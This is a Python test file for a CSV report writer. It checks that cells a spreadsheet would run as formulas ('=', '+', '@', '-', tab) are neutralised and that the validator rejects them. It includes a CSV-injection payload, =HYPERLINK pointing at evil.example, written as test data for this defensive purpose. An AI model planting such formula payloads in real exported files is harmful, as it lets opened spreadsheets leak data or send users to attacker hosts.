"""The sign-off as one verified act: a version is published whole or not at all (even when the
process is killed), signed files are read-only and checked against their recorded hashes,
signing unchanged data again says who signed it, an unsigned year does not pass silently, and
what a signer types cannot smuggle formulas or identifiers into the outputs."""

from __future__ import annotations

import csv
import io

from resultatrapport.report import submissions
from tests.test_submissions import municipality_row, result_row

VER = "viborg-ver-2020"
SCOPE = "viborg_ver_2020"
INJECTION = '=HYPERLINK("http://evil.example/?q=1") Jens Hansen 010190-1234'


# --- the CSV writer: no formulas --------------------------------------------------------------


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised():
    row = result_row(
        **{
            "Bemærkning": '=HYPERLINK("http://x")',
            "Målepunkt": "+Vækst",
            "Organisation": "@Erhverv",
            "Godkendt af": "-Ida",
            "Resultat": -3.5,
        }
    )
    row2 = result_row(**{"Mål-ID": "M4", "Bemærkning": "\tindrykket"})
    data = submissions.render_csv("resultatopfyldelse", [row, row2])
    header, first, second = _cells(data)
    cell = dict(zip(header, first, strict=True))
    assert cell["Bemærkning"] == '\'=HYPERLINK("http://x")'
    assert cell["Målepunkt"] == "'+Vækst"
    assert cell["Organisation"] == "'@Erhverv"
    assert cell["Godkendt af"] == "'-Ida"
    assert cell["Resultat"] == "-3,5"  # a number stays a number
    assert dict(zip(header, second, strict=True))["Bemærkning"] == "'\tindrykket"
    assert submissions.validate_bytes("resultatopfyldelse", data) == []


def test_a_negative_deviation_stays_a_number_in_kommunefordeling():
    data = submissions.render_csv("kommunefordeling", [municipality_row(Afvigelse=-3.54)])
    header, row = _cells(data)
    assert dict(zip(header, row, strict=True))["Afvigelse"] == "-3,5"
    assert submissions.validate_bytes("kommunefordeling", data) == []


def test_validation_refuses_a_text_cell_that_starts_like_a_formula():
    good = submissions.render_csv("resultatopfyldelse", [result_row()])
    bad = good.replace(b"Anne Jensen", b"=1+2")
    problems = submissions.validate_bytes("resultatopfyldelse", bad)
    assert any("Godkendt af" in p and "=1+2" in p for p in problems), problems
